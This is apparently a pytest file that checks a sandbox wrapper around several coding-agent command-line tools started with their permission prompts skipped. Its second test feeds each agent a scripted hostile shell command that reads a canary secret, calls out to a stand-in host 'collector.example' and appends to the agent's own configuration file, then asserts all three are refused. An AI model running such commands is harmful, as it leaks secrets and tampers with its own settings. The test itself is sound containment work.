"""Agents that run inside as a whole, as installed from their registries: the work is done, and what is denied stays denied, whatever tool they use."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import pytest

from tests.reference.conftest import SECRET, Seat, agent_program
from tests.reference.endpoint import Endpoint, ToolCall, Wire, listening
from tests.reference.wires import Chat, Gemini, Messages, Responses


@dataclass(frozen=True)
class Agent:
    """How one agent is started without a person. ``given`` is its shell tool's input; ``prepare`` writes its configuration; ``obeyed`` must stay as it is."""

    name: str
    program: str
    wire: Callable[[], Wire]
    tool: str
    given: Callable[[str], Mapping[str, object]]
    words: tuple[str, ...]
    environ: Callable[[str], Mapping[str, str]]
    prepare: Callable[[Seat, str], None]
    obeyed: str


def described(command: str) -> Mapping[str, object]:
    return {"command": command, "description": "work"}


def nothing(seat: Seat, url: str) -> None:
    """No configuration is needed."""


def for_codex(seat: Seat, url: str) -> None:
    (seat.home / ".codex").mkdir(exist_ok=True)
    provider = f'[model_providers.scripted]\nname = "scripted"\nbase_url = "{url}/v1"\nwire_api = "responses"\nenv_key = "OPENAI_API_KEY"\n'
    (seat.home / ".codex" / "config.toml").write_text(f'model = "test"\nmodel_provider = "scripted"\n{provider}')


def for_gemini(seat: Seat, url: str) -> None:
    (seat.home / ".gemini").mkdir(exist_ok=True)
    (seat.home / ".gemini" / "settings.json").write_text('{"security": {"auth": {"selectedType": "gemini-api-key"}}}')


def for_opencode(seat: Seat, url: str) -> None:
    (seat.home / ".config" / "opencode").mkdir(parents=True, exist_ok=True)
    provider = {"npm": "@ai-sdk/openai-compatible", "options": {"baseURL": f"{url}/v1", "apiKey": "none"}, "models": {"test": {"name": "test"}}}
    document = {"model": "scripted/test", "provider": {"scripted": provider}}
    (seat.home / ".config" / "opencode" / "opencode.json").write_text(json.dumps(document))


AGENTS = (
    Agent(
        "claude-code",
        "claude",
        Messages,
        "Bash",
        described,
        ("-p", "--dangerously-skip-permissions", "do the work"),
        # The client does not take root's word for it that questions are not needed, unless it is told that something else guards.
        lambda url: {
            "IS_SANDBOX": "1",
            "ANTHROPIC_BASE_URL": url,
            "ANTHROPIC_API_KEY": "none",
            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
            "DISABLE_AUTOUPDATER": "1",
        },
        nothing,
        ".claude/settings.json",
    ),
    Agent(
        "codex",
        "codex",
        Responses,
        "exec_command",
        lambda command: {"cmd": command},
        ("exec", "--skip-git-repo-check", "--sandbox", "danger-full-access", "do the work"),
        lambda url: {"OPENAI_BASE_URL": url, "OPENAI_API_KEY": "none"},
        for_codex,
        ".codex/config.toml",
    ),
    Agent(
        "gemini-cli",
        "gemini",
        Gemini,
        "run_shell_command",
        described,
        ("--yolo", "--skip-trust", "-m", "gemini-2.5-flash", "-p", "do the work"),
        lambda url: {"GOOGLE_GEMINI_BASE_URL": url, "GEMINI_API_KEY": "none"},
        for_gemini,
        ".gemini/settings.json",
    ),
    Agent("opencode", "opencode", Chat, "bash", described, ("run", "do the work"), lambda url: {}, for_opencode, ".config/opencode/opencode.json"),
)


@pytest.fixture(params=AGENTS, ids=lambda agent: agent.name)
def agent(request: pytest.FixtureRequest) -> Agent:
    found: Agent = request.param
    return found


@pytest.fixture
def drive(seat: Seat, agent: Agent) -> Callable[[str], Endpoint]:
    program = agent_program(agent.program)

    def drive(command: str) -> Endpoint:
        with listening(agent.wire(), ToolCall(agent.tool, agent.given(command), "call_1")) as endpoint:
            agent.prepare(seat, endpoint.url)
            # Only opencode has its endpoint in a file, which Paddock does not read.
            options = ["--allow-domain", f"localhost:{endpoint.port}"] if not agent.environ("") else []
            done = seat.call(seat.paddock, "run", "--agent", agent.name, *options, "--", program, *agent.words, extra=agent.environ(endpoint.url))
        assert done.returncode == 0, f"{done.stdout}\n{done.stderr}"
        assert endpoint.made == 1, f"{endpoint.offered}\n{done.stdout}\n{done.stderr}"
        return endpoint

    return drive


def test_the_work_is_done(seat: Seat, drive: Callable[[str], Endpoint]) -> None:
    endpoint = drive("cat notes.txt && echo made > made.txt")
    assert (seat.project / "made.txt").read_text() == "made\n"
    assert "notes for everybody" in endpoint.result


def test_what_is_denied_stays_denied(seat: Seat, agent: Agent, drive: Callable[[str], Endpoint]) -> None:
    fetch = 'import urllib.request; urllib.request.urlopen("http://collector.example/")'
    obeyed = seat.home / agent.obeyed
    endpoint = drive(f"cat canary.txt; python3 -c '{fetch}'; echo run-me-later >> '{obeyed}'; echo tried")
    assert "tried" in endpoint.result
    assert SECRET not in endpoint.everything
    assert {str(seat.project / "canary.txt"), "collector.example:80", str(obeyed)} <= set(seat.refused())
    assert not obeyed.exists() or "run-me-later" not in obeyed.read_text()
